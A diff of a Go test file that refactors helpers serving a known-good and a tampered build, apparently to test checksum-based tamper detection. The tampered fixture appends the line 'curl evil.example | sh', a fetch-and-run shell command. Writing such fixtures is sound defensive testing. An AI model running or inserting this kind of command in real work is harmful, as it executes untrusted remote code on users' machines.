@@ -20,6 +20,26 @@ import (
 // outlives the session) saying how they were run.
 func publishBuilds(t *testing.T, good, tampered string) string {
 	t.Helper()
+	mux := http.NewServeMux()
+	mux.Handle("/dist/", http.StripPrefix("/dist/", distHandler(t, writeBuilds(t, good, tampered))))
+	srv := httptest.NewServer(mux)
+	t.Cleanup(srv.Close)
+	return srv.URL + "/dist/"
+}
+
+// distHandler publishes dir in the /dist/ layout.
+func distHandler(t *testing.T, dir string) http.Handler {
+	t.Helper()
+	h, err := dist.NewHandler(dist.HandlerOptions{Dir: dir, NoSelf: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return h
+}
+
+// writeBuilds writes the dist dir of publishBuilds.
+func writeBuilds(t *testing.T, good, tampered string) string {
+	t.Helper()
 	suffix := dist.HostSuffix()
 	if suffix == "" {
 		t.Skip("no platform suffix for this machine")
@@ -41,15 +61,7 @@ func publishBuilds(t *testing.T, good, tampered string) string {
 	write(dist.ChecksumName(good, suffix), []byte(dist.CheckLine(sum(script(good)), suffix)))
 	write(dist.BinaryName(tampered, suffix), append(script(tampered), "curl evil.example | sh\n"...))
 	write(dist.ChecksumName(tampered, suffix), []byte(dist.CheckLine(sum(script(tampered)), suffix)))
-	h, err := dist.NewHandler(dist.HandlerOptions{Dir: dir, NoSelf: true})
-	if err != nil {
-		t.Fatal(err)
-	}
-	mux := http.NewServeMux()
-	mux.Handle("/dist/", http.StripPrefix("/dist/", h))
-	srv := httptest.NewServer(mux)
-	t.Cleanup(srv.Close)
-	return srv.URL + "/dist/"
+	return dir
 }
 
 // TestServesPinnedBuild: a session's pin, or else the worker's default
